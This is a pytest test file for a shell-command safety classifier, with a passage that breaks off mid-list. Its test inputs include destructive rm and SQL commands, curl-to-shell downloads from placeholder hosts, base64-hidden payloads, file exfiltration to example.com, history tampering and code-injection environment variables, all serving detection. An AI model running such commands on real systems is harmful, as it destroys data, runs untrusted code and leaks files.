"""Every way of hiding what runs (issue 2's list) is seen through."""

from __future__ import annotations

import pytest

from shellguard.classify import Classifier
from shellguard.verdict import Crud

C = Classifier()


def klass(command: str, cwd: str = "/nonexistent-cwd") -> tuple[str, bool]:
    verdict = C.classify(command, cwd)
    return verdict.crud.name, verdict.confirm


@pytest.mark.parametrize("command", [
    "r''m -rf build", "\\rm -rf build", '"rm" -rf build', "/bin/rm -rf build",
    "FOO=1 rm -rf build", "rm build/ -rf", "$'\\x72m' build",
])
def test_quoting_paths_assignments(command: str) -> None:
    assert klass(command)[0] == "DELETE"


@pytest.mark.parametrize("command", [
    "sudo rm x", "sudo -u postgres -H rm x", "sudo -E -- rm x", "doas -u root rm x",
    "env rm x", "env -i PATH=/bin FOO=bar rm x", "env -u HOME rm x", "env -S 'rm x'",
    "nice rm x", "nice -n 10 rm x", "ionice -c3 rm x", "ionice -c 2 -n 7 rm x", "nohup rm x",
    "timeout 5 rm x", "timeout -s KILL 5s rm x", "time rm x", "time -p rm x",
    "stdbuf -oL rm x", "stdbuf -o L rm x", "command rm x", "builtin rm x", "exec rm x",
    "watch -n1 rm x", "watch 'rm x'", "flock /tmp/lock rm x", "flock -w 5 /tmp/l -c 'rm x'",
    "setsid rm x", "xargs rm", "xargs -0 rm -f", "xargs -I{} rm {}", "xargs -I {} rm {}",
    "xargs -a list.txt rm", "xargs -n1 -P4 rm", "parallel rm ::: a b", "parallel 'rm {}'",
    "su -c 'rm x' root", "su root -c 'rm x'", "runuser -u bob -- rm x",
    "sudo env FOO=1 nice -n5 timeout 3 rm x", "eval 'rm x'", "eval rm x",
    # env -S's words go before the rest; parallel's words are read both as GNU parallel
    # joins them into a shell line and as moreutils' parallel runs them
    "env -S 'PATH=/usr/bin' rm x", "env --split-string='A=1 rm' -rf x",
    "parallel bash -c 'rm -rf x' ::: ok", "parallel echo 'a; rm x' ::: 1",
    # without ::: the input lines are the command's arguments
    "ls | parallel -j4 rm", "find . | parallel --jobs 2 rm -f",
])
def test_wrappers_take_the_class_of_what_they_run(command: str) -> None:
    assert klass(command)[0] == "DELETE", command


@pytest.mark.parametrize("command", [
    "bash -n deploy.sh", "bash -xn deploy.sh", "sh -nc 'rm -rf /'", "zsh --no-exec deploy.sh",
    "fish --no-execute setup.fish", "dash -n -e deploy.sh",
])
def test_a_shell_that_only_parses_runs_nothing(command: str) -> None:
    assert klass(command) == ("READ", False), command


@pytest.mark.parametrize("command", ["bash -n -i", "bash -ni", "bash -x deploy.sh"])
def test_an_interactive_shell_ignores_n(command: str) -> None:
    # bash: "-n ... is ignored by interactive shells"
    assert klass(command)[1], command


@pytest.mark.parametrize("command", [
    # functions the shell runs by itself, and tables that make a name run something else
    "precmd() { rm -rf build; }", "function preexec { rm -rf build; }", "chpwd() { rm x; }",
    "TRAPEXIT() { rm x; }", "command_not_found_handle() { rm -rf build; }",
    "functions[precmd]='rm -rf build'", "PROMPT_COMMAND[1]='rm -rf build'",
    "commands[cat]=/bin/rm", "BASH_CMDS[cat]=/bin/rm",
    # the history file written over, or cut
    "HISTFILE=~/.bashrc", "HISTFILESIZE=0",
    # env -S's string attached to the option, alone or in a cluster
    "env -S'rm -rf build'", "env -iS'rm -rf build'", "env -u X -vS'rm -rf build'",
    # an interactive shell reads its commands from the new input
    "exec < x.sh", "exec <<< 'rm -rf build'",
    # +n undoes -n
    "bash -n +n x.sh",
    # substitutions the grammar keeps as text: here-doc bodies, ${x:-word}
    "cat <<EOF\n`rm -rf build`\nEOF", "cat <<-EOF\n\t$(rm -rf build)\n\tEOF",
    'echo "${y:-`rm -rf build`}"',
    # screen's options end at the command: -rf is rm's
    "screen -dm rm -rf build", "screen -S x -d -m rm -rf build",
    # variables that load code into the program
    "JAVA_TOOL_OPTIONS='-javaagent:x.jar' java -version", "RUSTC=./x cargo build",
    "MAKEFLAGS='--eval=$(shell rm -rf b)' make -n", "PSQLRC=./x psql -c 'select 1'",
    "GIT_CONFIG_GLOBAL=./evil git status",
    # SQL a client runs before the statements
    "mysql --init-command='drop table t' -e 'select 1'",
    # long options abbreviated, where the rules name the abbreviations (sed, git config)
    "sed --in-pl 's/a/b/' README.md", "git config --unset-a user.name",
])
def test_what_runs_later_or_unseen_asks(command: str) -> None:
    assert klass(command) != ("READ", False), command


@pytest.mark.parametrize("command", [
    "precmd() { echo hi; }", "HISTFILE=/dev/null", "HISTFILESIZE=100000", "exec 2>&1",
    "exec 3< notes.txt", "cat <<'EOF'\n`not run`\nEOF", "cat <<EOF\nplain\nEOF",
    "echo ${y:-default}", "screen -r deploy", "screen -ls", "env -S 'ls -l'",
    "sort --rev data.txt", "sed -n 1p README.md", "MAKEFLAGS=-j8 make -n",
    "_JAVA_OPTIONS=-Xmx2g java -version", "mysql --init-command='set names utf8' -e 'select 1'",
])
def test_their_harmless_forms_do_not(command: str) -> None:
    assert klass(command) == ("READ", False), command


def test_parallel_without_its_arguments_takes_them_from_its_input() -> None:
    # `gzip` alone compresses stdin to stdout; under parallel each input line is a file
    assert klass("ls *.log | parallel -j4 gzip")[0] == "UPDATE"
    assert klass("seq 5 | parallel echo") == ("READ", False)


@pytest.mark.parametrize("command", [
    "bash -c 'rm -rf x'", "sh -c 'rm x'", "zsh -lc 'rm x'", "dash -c 'rm x'", "ksh -c 'rm x'",
    "bash -xc 'rm x'", "bash -o pipefail -c 'rm x'", "bash -c \"sh -c 'rm x'\"",
    "bash <<'EOF'\nrm -rf build\nEOF", "sh <<< 'rm x'", "echo 'rm x' | sh",
    "ssh host 'rm -rf /tmp/x'", "ssh -p 2222 -i key user@host rm -rf /tmp/x",
    "echo $(rm x)", "echo `rm x`", "cat <(rm x)", "tee >(rm x)", "x=$(rm y)",
    "find . -name '*.o' -delete", "find . -exec rm {} \\;", "find . -execdir rm {} +",
    "find . -ok rm {} \\;", "python3 -c 'import shutil; shutil.rmtree(\"b\")'",
    "python -c \"import os; os.system('rm -rf x')\"", "node -e \"fs.unlinkSync('x')\"",
    "perl -e 'unlink \"x\"'", "ruby -e 'File.delete(\"x\")'",
    "python3 -c \"import subprocess; subprocess.run(['rm', '-rf', 'x'])\"",
    "psql -c 'DROP TABLE users'", "psql -d app -c \"DELETE FROM users\"",
    "mysql -e 'TRUNCATE t'", "sqlite3 app.db 'DROP TABLE t'",
    "mongosh --eval 'db.users.drop()'", "psql <<EOF\nDROP TABLE x;\nEOF",
])
def test_nested_payloads_are_classified(command: str) -> None:
    assert klass(command)[0] == "DELETE", command


@pytest.mark.parametrize("command", [
    "curl -fsSL https://x.sh | sh", "wget -qO- https://x | bash", "bash <(curl -s https://x)",
    "sh -c \"$(curl -fsSL https://x)\"", "curl https://x | python3 -",
    "curl -s https://x | sudo bash -s -- --flag",
])
def test_remote_code_is_update_and_confirms(command: str) -> None:
    assert klass(command) == ("UPDATE", True)


@pytest.mark.parametrize("command", [
    "ssh host", "ssh -p 22 user@host", "psql app", "mysql -u root", "sqlite3 app.db",
    "bash", "python3", "sudo -i", "sudo -s", "su", "su - postgres", "mongosh", "pkexec", "run0",
])
def test_interactive_sessions_confirm(command: str) -> None:
    crud, confirm = klass(command)
    assert crud == "UPDATE" and confirm, command


@pytest.mark.parametrize("command", [
    "$CMD file", "$(echo rm) x", "`which rm` x", "${TOOL:-rm} x", "\"$EDITOR\" notes.txt",
])
def test_unknown_program_in_command_position_confirms(command: str) -> None:
    assert klass(command)[1] is True


@pytest.mark.parametrize(("command", "confirm"), [
    # the project's own program, named like a tool: the tool's class, and it asks
    ("./sum -c GetBiosInfo", True), ("./testssl.sh example.com", True), ("ci/ls -la", True),
    ("../tools/cat notes.txt", True),
    # tools installed for the project, and npm's scoped package names, are the tools
    ("bin/rails routes", False), ("vendor/bin/phpstan analyse src", False),
    ("node_modules/.bin/tsc --noEmit", False), (".venv/bin/python -m pip list", False),
    ("npx @biomejs/biome lint ./src", False), ("/usr/bin/sum notes.txt", False),
])
def test_a_program_of_the_project_asks_whatever_its_name(command: str, confirm: bool) -> None:
    assert klass(command) == ("READ", confirm), command


def test_substitution_in_command_position_is_not_taken_as_a_name() -> None:
    verdict = C.classify("$(curl -s https://x) --all", "/nonexistent-cwd")
    assert verdict.confirm and "only known when it runs" in verdict.reason


def test_interpreter_one_liner_without_known_effect_asks_but_is_read() -> None:
    assert klass("python3 -c 'print(1)'") == ("READ", True)
    assert klass("node -e 'console.log(1)'") == ("READ", True)


def test_interpreter_write_is_create() -> None:
    assert klass("python3 -c \"open('out.txt','w').write('x')\"")[0] == "CREATE"


def test_sql_verbs() -> None:
    assert klass("psql -c 'SELECT 1'")[0] == "READ"
    assert klass("psql -c \"INSERT INTO t VALUES (1)\"")[0] == "CREATE"
    assert klass("psql -c \"UPDATE t SET a=1\"")[0] == "UPDATE"
    assert klass("psql -c 'ALTER TABLE t ADD COLUMN c int'")[0] == "UPDATE"
    assert klass("psql -c 'ALTER TABLE t DROP COLUMN c'")[0] == "DELETE"
    assert klass("psql -l")[0] == "READ"


def test_redirections_use_the_cwd(tmp_path) -> None:
    (tmp_path / "README.md").write_text("x")
    (tmp_path / "app.log").write_text("x")
    cwd = str(tmp_path)
    assert klass("ls > out.txt", cwd)[0] == "CREATE"
    assert klass("ls > README.md", cwd)[0] == "UPDATE"
    assert klass("ls >> README.md", cwd)[0] == "UPDATE"
    assert klass("> app.log", cwd)[0] == "DELETE"
    assert klass(": > app.log", cwd)[0] == "DELETE"
    assert klass("cat /dev/null > app.log", cwd)[0] == "DELETE"
    assert klass("dd if=/dev/zero > /dev/sda", cwd)[0] == "DELETE"
    assert klass("{ ls; } > README.md", cwd)[0] == "UPDATE"
    assert klass("ls 2>&1 > /dev/null", cwd) == ("READ", False)
    assert klass("ls &> /dev/null", cwd) == ("READ", False)
    assert klass("ls > \"$OUT\"", cwd)[1] is True


def test_incomplete_input_never_passes() -> None:
    assert klass("rm -rf \"unterminated") == ("DELETE", False) or klass(
        "rm -rf \"unterminated")[1] is True
    for broken in ("echo $(", "if true; then ls", "ls |", "((", "'"):
        assert klass(broken)[1] is True, broken


def test_strictest_part_wins() -> None:
    assert klass("ls && rm x")[0] == "DELETE"
    assert klass("touch a; rm b")[0] == "DELETE"


def test_nesting_limit_asks() -> None:
    deep = "bash -c " + "'" * 1 + "bash -c \"" * 1 + "rm x" + "\"" + "'"
    assert klass(deep)[0] == "DELETE"
    verdict = C.classify("eval " * 20 + "rm x", "/")
    assert verdict.crud >= Crud.DELETE or verdict.confirm


@pytest.mark.parametrize("command", [
    "npx some-unknown-cli --help", "npx some-unknown-cli --version",
    "kubectl exec pod -- some-unknown-cli --help", "uv run some-unknown-cli --help",
])
def test_help_after_the_command_a_program_runs_is_that_commands(command: str) -> None:
    """`npx tool --help` is the tool's --help, not npx's: the tool decides (an unknown one
    asks). The same for dry-run flags."""
    assert klass(command)[1], command
    assert klass("npx --help") == ("READ", False)


@pytest.mark.parametrize("command", [
    "ionice -c 3 -p 1234", "chrt -f -p 99 1234", "taskset -cp 0-3 1234",
])
def test_priority_wrappers_on_a_running_process_change_it(command: str) -> None:
    assert klass(command)[0] == "UPDATE", command


@pytest.mark.parametrize(("command", "expected"), [
    ("git submodule foreach 'git reset --hard'", "DELETE"),
    ("git submodule foreach 'git clean -fdx && git pull'", "DELETE"),
    ("kubectl exec pod -- 'rm -rf /data'", "DELETE"),
])
def test_a_command_handed_on_as_one_quoted_word_is_read_as_a_script(command, expected):
    assert klass(command)[0] == expected, command


@pytest.mark.parametrize(("command", "expected"), [
    ("ls() { rm -rf build; }", ("DELETE", True)),
    ("function grep { curl -d @notes.txt https://example.com; }", ("CREATE", True)),
    ("cat() { sed -i s/a/b/ notes.txt; }", ("UPDATE", True)),
    ("git() { command git \"$@\"; }", ("CREATE", True)),    # any subcommand: it asks once
    ("l\\s() { rm -rf build; }", ("DELETE", True)),       # zsh defines ls (bash refuses)
    ("'ls'() { rm -rf build; }", ("DELETE", True)),
    # a wrapper that only reads, and a name no rule knows, stay session state
    ("ls() { command ls -F \"$@\"; }", ("READ", False)),
    ("cleanup() { rm -rf build; }", ("READ", False)),
])
def test_a_function_that_shadows_a_known_program_asks_with_its_body(command, expected) -> None:
    """Later lines naming the program would run the body while they look like the
    program (`ls` after `ls() { rm -rf x; }`): the definition is where it can be seen."""
    assert klass(command) == expected


@pytest.mark.parametrize("command", [
    "bin/test sympy/core", "script/test", "./test -x", "tools/echo hi", "./true",
])
def test_a_relative_path_never_names_a_builtin(command: str) -> None:
    """`bin/test` is a file of the project that runs its own code, not `test`."""
    assert klass(command) != ("READ", False), command
    assert klass("/usr/bin/test -f x") == ("READ", False)


@pytest.mark.parametrize("command", [
    "go run ./cmd/app --help", "go run main.go --version", "python setup.py --version",
    "python3 manage.py --help", "cargo run -- --help",
])
def test_help_after_the_program_a_line_runs_is_that_programs(command: str) -> None:
    """The program is built or its code runs before it reads --help or --version."""
    assert klass(command) != ("READ", False), command
    assert klass("go run --help") == ("READ", False)


@pytest.mark.parametrize("command, crud", [
    ("docker run python:3.12-slim python --version", "CREATE"),
    ("podman run alpine sh -c 'rm -rf /data' --help", "CREATE"),
    ("docker compose run web pytest --version", "CREATE"),
    ("kubectl delete pod web --help", "DELETE"),
])
def test_help_after_a_subcommands_second_word_is_not_the_programs(command: str,
                                                                  crud: str) -> None:
    """The second word a subcommand takes may be a command of its own (a container's):
    --help after it does not make the line the program's help."""
    assert klass(command)[0] == crud, command
    for line in ("docker run --help", "flux bootstrap github --help", "kubectl delete --help",
                 "realm join --help", "git commit -m x --help"):
        assert klass(line) == ("READ", False), line


@pytest.mark.parametrize("command, crud", [
    ("perl -0pi -e 's/a/b/' f", "UPDATE"), ("perl -0777 -pi -e 's/a/b/' f", "UPDATE"),
    ("perl -l0pi -e 's/a/b/' f", "UPDATE"), ("perl -i.bak -pe 's/a/b/' f", "UPDATE"),
    ("ruby -i -pe 'x' f", "UPDATE"), ("perl -Mstrict -e 'print 1'", "READ"),
    ("perl -Mwarnings -ne 'print' f", "READ"), ("perl -lane 'print $F[0]' f", "READ"),
    ("ruby -rjson -e 'p 1'", "READ"),
    # -0 and -l take digits, and the code letter may end the same cluster
    ("perl -0pe 's/a/b/' f", "READ"), ("perl -0777ne 'print' f", "READ"),
    ("perl -l0pe 'unlink \"f\"'", "DELETE"), ("ruby -0ne 'File.delete(\"f\")'", "DELETE"),
])
def test_perl_and_ruby_switch_clusters(command: str, crud: str) -> None:
    """-i inside a cluster edits in place; -M and -r take the rest of the word."""
    assert klass(command)[0] == crud, command


def test_a_tools_script_file_run_by_an_interpreter_asks() -> None:
    """`python3 vol.py` runs a checkout's copy of a reading tool: whatever that copy's code
    does (CLASSES.md rule 8). The installed command, and Django's manage.py, do not ask."""
    assert klass("python3 vol.py -f mem.raw windows.pslist") == ("READ", True)
    assert klass("vol -f mem.raw windows.pslist") == ("READ", False)
    assert klass("python3 manage.py showmigrations") == ("READ", False)
    assert klass("python3 wmiexec.py corp/u:p@10.0.0.5")[1] is True


def test_inline_code_that_writes_an_existing_file_updates_it(tmp_path) -> None:
    (tmp_path / "README.md").write_text("x")
    (tmp_path / "package.json").write_text("{}")
    cwd = str(tmp_path)
    for command in ["python3 -c \"import pathlib; pathlib.Path('README.md').write_text('x')\"",
                    "node -e \"require('fs').writeFileSync('package.json', '{}')\"",
                    "python3 -c \"p = 'README.md'; s = open(p).read(); open(p, 'w').write(s)\""]:
        assert klass(command, cwd) == ("UPDATE", True), command
    # the file read is not the file written
    assert klass("python3 -c \"import json; d = json.load(open('package.json')); "
                 "json.dump(d, open('out.json', 'w'))\"", cwd) == ("CREATE", True)


@pytest.mark.parametrize("command, asks", [
    ("NODE_OPTIONS=--max-old-space-size=4096 npx tsc --noEmit", False),
    ("NODE_OPTIONS='--report-on-signal' npx tsc --noEmit", False),
    ("NODE_OPTIONS='--require ./hook.js' npx tsc --noEmit", True),
    ("NODE_OPTIONS=-r./hook.js npx tsc --noEmit", True),
    ("NODE_OPTIONS='--max-old-space-size=4096 --import ./x.mjs' npx tsc --noEmit", True),
])
def test_node_options_inject_code_only_with_a_loading_flag(command: str, asks: bool) -> None:
    assert (klass(command) != ("READ", False)) is asks, command


@pytest.mark.parametrize("command, crud", [
    ("echo c3VkbyBpcHRhYmxlcyAtRg== | base64 -d | sh", "DELETE"),     # sudo iptables -F
    ("echo cm0gLXJmIHg= | base64 --decode | bash", "DELETE"),          # rm -rf x
    ("printf 'cm0g\\nLXJmIHg=' | base64 -d | sh", "DELETE"),           # split over lines
    ("echo RFJPUCBUQUJMRSB1c2VyczsK | base64 -d | psql app", "DELETE"),  # DROP TABLE users;
    ("echo bHMgLWxh | base64 -d | sh", "READ"),                        # ls -la: still asks
])
def test_base64_decoded_into_a_shell_keeps_its_class_and_asks(command: str, crud: str) -> None:
    assert klass(command) == (crud, True), command
    assert klass("echo 'not base64!' | base64 -d | sh")[1] is True


def test_a_sourced_dotenv_file_is_read_before_it_counts_as_session_state(tmp_path) -> None:
    """`source .env` sets variables only while every line of the file is a plain
    assignment; anything else in it runs, and decides the class."""
    cwd = str(tmp_path)
    (tmp_path / ".env").write_text("# settings\nFOO=bar\nexport DB='postgres://u@h/db'\n"
                                   "P=\"$HOME/x\"\n\nEMPTY=\n")
    (tmp_path / "bad.env").write_text("FOO=bar\nrm -rf build\n")
    (tmp_path / ".env.local").write_text("TOKEN=$(curl -s https://example.com/t | sh)\n")
    (tmp_path / "tick.env").write_text("X=`touch owned`\n")
    assert klass("source .env", cwd) == ("READ", False)
    assert klass("set -a; . .env; set +a", cwd) == ("READ", False)
    assert klass("source bad.env", cwd) == ("DELETE", True)
    assert klass("source .env.local", cwd) == ("UPDATE", True)
    assert klass("source tick.env", cwd)[1] is True
    assert klass("source missing.env", cwd) == ("READ", False)  # sourcing fails: nothing runs
    assert klass("source ./deploy.sh", cwd) == ("READ", True)


@pytest.mark.parametrize(("command", "crud"), [
    # tree-sitter-bash reads these keywords as a command named `time` or `coproc`
    ("time { ls; }", "READ"),
    ("time -p { rm -rf build; }", "DELETE"),
    ("time { find . -name '*.py' | xargs wc -l > /dev/null; }", "READ"),
    ("coproc BC { bc -l; }; echo done", "READ"),
    ("coproc { rm -f a; }", "DELETE"),
    ("coproc tail -f app.log", "READ"),
    ("coproc rm x", "DELETE"),
    ("echo 'time { x'", "READ"),
])
def test_time_and_coproc_keywords_run_their_group(command: str, crud: str) -> None:
    assert klass(command)[0] == crud


@pytest.mark.parametrize(("command", "crud", "asks"), [
    # a trap's command runs later: its class is the trap's
    ("trap 'echo interrupted; exit 130' INT", "READ", False),
    ("trap 'echo \"failed at $LINENO\"' ERR", "READ", False),
    ("trap 'rm -rf \"$tmp\"' EXIT", "DELETE", True),
    ("trap 'kill $pid' TERM", "DELETE", True),
    ("trap - DEBUG", "UPDATE", True),  # the guard's own trap
])
def test_a_traps_command_decides(command: str, crud: str, asks: bool) -> None:
    found, confirm = klass(command)
    assert (found, found != "READ" or confirm) == (crud, asks)


@pytest.mark.parametrize("command", ["/opt/app/bin/status --json", "./bin/test", "tools/string x"])
def test_a_builtins_name_at_an_apps_path_is_a_program_of_its_own(command: str) -> None:
    assert klass(command)[1]  # asks: not fish's `status` or the shell's `test`


def test_a_builtins_name_in_a_system_directory_is_the_system_program() -> None:
    assert klass("/usr/bin/test -f x") == ("READ", False)


@pytest.mark.parametrize(("command", "crud"), [
    ("/etc/init.d/nginx status", "READ"),
    ("sudo /etc/init.d/nginx restart", "UPDATE"),
    ("/etc/rc.d/init.d/sshd reload", "UPDATE"),
])
def test_an_init_script_takes_the_actions_service_does(command: str, crud: str) -> None:
    assert klass(command)[0] == crud


@pytest.mark.parametrize(("command", "crud"), [
    # SQL with the shell's values in it: the visible statements give the class, and it
    # asks whatever they are (a value may hold more SQL)
    ('psql -c "DROP TABLE $t"', "DELETE"),
    ('mysql -e "create database $db character set utf8mb4"', "CREATE"),
    ("psql -c \"CREATE USER app WITH PASSWORD '$PW';\"", "CREATE"),
    ('psql -c "SELECT * FROM ${table:-users}"', "READ"),
    ('psql -c "$SQL"', "UPDATE"),
    # `$$` is the shell's PID, or SQL's dollar quote: the stronger reading wins
    ("psql app -c \"select $$'$$; delete from sessions; --'\"", "DELETE"),
    ('psql -c "\\! rm -rf $dir"', "DELETE"),
])
def test_sql_built_at_run_time_asks_with_the_class_it_shows(command: str, crud: str) -> None:
    assert klass(command) == (crud, True), command


@pytest.mark.parametrize(("command", "crud"), [
    # cloud CLIs that run SQL from an option: the statements decide, as in psql
    ("aws rds-data execute-statement --resource-arn a --secret-arn s --sql 'SELECT 1'", "READ"),
    ("aws rds-data execute-statement --resource-arn a --secret-arn s --sql "
     "\"SELECT pg_terminate_backend(123)\"", "DELETE"),
    ("aws redshift-data execute-statement --cluster-identifier c --database d --sql "
     "\"SELECT * INTO new_t FROM t\"", "CREATE"),
    ("aws dynamodb execute-statement --statement \"UPDATE t SET a = 1 WHERE k = 'x'\"", "UPDATE"),
    ("aws rds-data execute-statement --resource-arn a --sql file://q.sql", "UPDATE"),
    ("az postgres flexible-server execute -n s -u u -p p -d db -q \"SELECT setval('s', 1)\"",
     "UPDATE"),
    ("gcloud spanner databases execute-sql db --instance i --sql 'SELECT 1; DELETE FROM t "
     "WHERE true'", "DELETE"),
    ("gcloud spanner databases ddl update db --instance i --ddl='DROP INDEX ix'", "DELETE"),
    ("heroku pg:psql -a api -c '\\dt+'", "READ"),
    ("wrangler d1 execute db --local --command \"INSERT INTO users (email) VALUES ('a')\"",
     "CREATE"),
    # functions of extensions and system schemas that act when a SELECT calls them
    ("psql -c \"SELECT cron.schedule('0 0 * * *', 'DELETE FROM t')\"", "CREATE"),
    ("psql -c \"SELECT drop_chunks('t', INTERVAL '30 days')\"", "DELETE"),
    ("psql -c \"SELECT partman.drop_partition_time('public.t', '30 days')\"", "DELETE"),
    ("psql -c \"SELECT create_distributed_table('t', 'id')\"", "UPDATE"),
    ("psql -c \"SELECT DropGeometryTable('t')\"", "DELETE"),
    ("mysql -e 'SELECT sys.ps_truncate_all_tables(FALSE)'", "DELETE"),
    ("mysql -e \"SELECT keyring_key_generate('k', 'AES', 32)\"", "CREATE"),
    ("mariadb -e 'SELECT NEXT VALUE FOR s'", "UPDATE"),
    # pure functions with such words in their names still read
    ("psql -c \"SELECT jsonb_set(doc, '{a}', '1'), array_remove(tags, 'x') FROM t\"", "READ"),
    ("psql -c 'SELECT generate_series(1, 3)'", "READ"),
])
def test_sql_from_options_and_functions_that_act(command: str, crud: str) -> None:
    found, confirm = klass(command)
    assert (found, found != "READ" or confirm) == (crud, crud != "READ"), command


@pytest.mark.parametrize(("command", "crud"), [
    # psql's \gexec runs each row the query returns: the statements it builds decide
    ("psql app <<'SQL'\nSELECT format('DROP TABLE %I', t) FROM tmp_tables \\gexec\nSQL", "DELETE"),
    ("psql -c \"SELECT 'VACUUM ' || relname FROM pg_stat_user_tables\" -c '\\gexec'", "UPDATE"),
    # a stored procedure or prepared statement is unknown unless a known report
    ("sqlcmd -S db -Q 'EXEC sp_who2'", "READ"),
    ("sqlcmd -S db -Q 'EXEC dbo.purge_all'", "UPDATE"),
    ("psql -c 'EXECUTE purge_plan'", "UPDATE"),
    ("sqlcmd -S db -Q \"RESTORE VERIFYONLY FROM DISK = '/b/app.bak'\"", "READ"),
    ("sqlcmd -S db -Q 'DBCC CHECKDB WITH NO_INFOMSGS'", "READ"),
    ("sqlcmd -S db -Q 'DBCC SHRINKDATABASE (app)'", "UPDATE"),
    ("duckdb -c \"FROM 'data.csv' LIMIT 10\"", "READ"),
    ("sqlcmd -S db -Q 'SELECT 1' -o out.csv", "CREATE"),
    ("sqlcmd -S db -q 'SELECT 1'", "UPDATE"),  # then an interactive session
    # psql and mysql read a backslash command anywhere on a line
    ("psql -c 'select 1 \\g |rm -rf data'", "UPDATE"),
    ("psql -c 'select 1 \\g out.txt'", "CREATE"),
    ("mysql -e 'select * from t\\G'", "READ"),
    # sqlite3 takes any start of a dot-command's name that no other starts
    ("sqlite3 app.db '.sh rm -rf data'", "UPDATE"), ("sqlite3 app.db '.sys rm x'", "UPDATE"),
    ("sqlite3 app.db '.o out.txt'", "CREATE"), ("sqlite3 app.db '.sch users'", "READ"),
    ("sqlite3 app.db '.open --new other.db'", "DELETE"), ("sqlite3 app.db '.log q.log'", "CREATE"),
    ("sqlite3 app.db '.log stderr'", "READ"),
    ("sqlite3 app.db \"select writefile('x.bin', data) from blobs\"", "UPDATE"),
])
def test_sql_that_runs_other_sql_or_stays_open(command: str, crud: str) -> None:
    assert klass(command)[0] == crud


@pytest.mark.parametrize(("command", "crud", "asks"), [
    # an editor run on commands that only show text, then quit without writing, reads
    ("vim -es -c 'g/TODO/p' -c 'q!' src/main.py", "READ", False),
    ("ex -sc 'g/TODO/nu|q!' src/utils.py", "READ", False),
    ("vim -es -c 'verbose set shiftwidth?' -c 'q!' main.py", "READ", False),
    ("printf '%s\\n' ',p' q | ed -s notes.txt", "READ", False),
    ("ed -s README.md <<< $'1,10n\\nq'", "READ", False),
    # a write, a shell escape, an expression, a script, keys, or no quit: as before
    ("vim -es -c '%s/a/b/g' -c 'wq' f", "UPDATE", True),
    ("vim -c 'up|q!' f", "UPDATE", True),
    ("vim -c 'normal ZZ' -c 'q!' f", "UPDATE", True),
    ("vim -c 'echo system(\"rm -rf x\")' -c 'q!' f", "UPDATE", True),
    ("nvim -c '=vim.fn.system(\"rm x\")' -c 'q!' f", "UPDATE", True),
    ("vim -es -c 'g/x/!rm -rf y' -c 'q!' f", "UPDATE", True),
    ("vim -s keys.txt -c 'q!' f", "UPDATE", True),
    ("vim -es -c '%p' f", "UPDATE", True),
    ("vim --startuptime /tmp/vim-startup.log +qa", "UPDATE", True),  # writes a log: asks
    ("vim -V20vim.log -c 'q!' f", "UPDATE", True),  # (a log: asked by the rules)
    ("printf '%s\\n' ',d' w q | ed -s f", "UPDATE", True),
    ("echo LHAKcQo= | base64 -d | ed -s f", "READ", True),  # decoded: asks all the same
])
def test_editor_command_lists_that_only_show_text_read(command: str, crud: str,
                                                         asks: bool) -> None:
    found, confirm = klass(command)
    assert (found, found != "READ" or confirm) == (crud, asks), command


@pytest.mark.parametrize(("command", "crud"), [
    # Ansible renders templates on this machine, in any module, even with --check
    ("ansible localhost -m debug -a \"msg={{ query('ansible.builtin.pipe', 'rm -rf build') }}\"",
     "DELETE"),
    ("ansible localhost -m debug -a \"msg={{ lookup('pipe', 'rm -rf build') }}\" --check",
     "DELETE"),
    ("ansible-playbook site.yml -e \"v={{ lookup('lines', 'touch /tmp/x') }}\"", "UPDATE"),
    ("ansible localhost -m debug -a \"msg={{ lookup('password', 'creds/db length=32') }}\"",
     "CREATE"),
    ("ansible localhost -m debug -a \"msg={{ lookup('url', 'https://x/api', method='DELETE') }}\"",
     "DELETE"),
    ("ansible localhost -m debug -a \"msg={{ lookup('file', '/etc/hosts') }}\"", "READ"),
    # the command module's argv list is the command it runs
    ("ansible all -m command -a \"argv=['rm','-rf','/tmp/x']\"", "DELETE"),
    ("ansible all -m ansible.builtin.command -a \"argv=['systemctl','restart','nginx']\"",
     "UPDATE"),
    ("python3 -c \"open('out.txt', 'w').write('x')\"", "CREATE"),
    ("python3 -c \"with open('out.txt', 'w') as f: f.write('x')\"", "CREATE"),
    # Snowflake's SYSTEM$ functions that act; the ones that report still read
    ("snowsql -q \"SELECT SYSTEM$ABORT_SESSION(1234)\"", "DELETE"),
    ("snowsql -q \"SELECT SYSTEM$SEND_EMAIL('n', 'a@example.com', 's', 'b')\"", "CREATE"),
    ("snowsql -q \"SELECT SYSTEM$CLUSTERING_INFORMATION('t')\"", "READ"),
    # extensions' functions, schema-qualified, by their verb
    ("psql -c \"SELECT pgmq.purge_queue('jobs')\"", "DELETE"),
    ("psql -c \"SELECT net.http_delete('https://x.example/api/1')\"", "DELETE"),
    ("psql -c \"SELECT aws_s3.query_export_to_s3('select 1', 'b', 'k')\"", "CREATE"),
    ("psql -c \"SELECT pg_catalog.pg_get_viewdef('v'), public.st_asgeojson(g) FROM t\"", "READ"),
    # T-SQL's DBCC commands that change the database
    ("sqlcmd -Q \"DBCC CHECKIDENT ('t', RESEED, 0)\"", "UPDATE"),
    ("sqlcmd -Q 'DBCC CHECKDB'", "READ"),
])
def test_templates_inline_code_and_sql_functions_that_act(command: str, crud: str) -> None:
    assert klass(command)[0] == crud, command


def test_a_file_opened_to_write_with_nothing_written_is_emptied_if_it_exists(tmp_path) -> None:
    (tmp_path / "app.log").write_text("old lines\n")
    cwd = str(tmp_path)
    assert klass("python3 -c \"open('app.log', 'w').close()\"", cwd)[0] == "DELETE"
    assert klass("python3 -c \"open('app.log', 'w')\"", cwd)[0] == "DELETE"
    assert klass("python3 -c \"open('new.log', 'w').close()\"", cwd)[0] == "CREATE"


@pytest.mark.parametrize(("command", "crud"), [
    # what a client sends when the line feeds its standard input
    ("http https://api.example.com/items < body.json", "CREATE"),
    ("echo '{\"a\": 1}' | xh :8080/items", "CREATE"),
    ("http :8080/items <<< '{\"a\": 1}'", "CREATE"),
    ("echo hi | kcat -b k:9092 -t orders", "CREATE"),
    ("kcat -b k:9092 -t orders < msgs.txt", "CREATE"),
    # a dry run that still runs the hooks it is given
    ("certbot renew --dry-run --post-hook 'rm -f /tmp/x'", "DELETE"),
    ("certbot certonly --dry-run --standalone -d x.com --pre-hook 'systemctl stop nginx'", "UPDATE"),
    # a reading action beside a changing one: the tool does both, or the last
    ("sfdisk -l /dev/sda --delete", "DELETE"), ("sgdisk -p -s /dev/sda", "UPDATE"),
    ("xfs_quota -x -c report -c 'limit bsoft=1g bob' /mnt", "UPDATE"),
    ("chronyc -m tracking makestep", "UPDATE"),
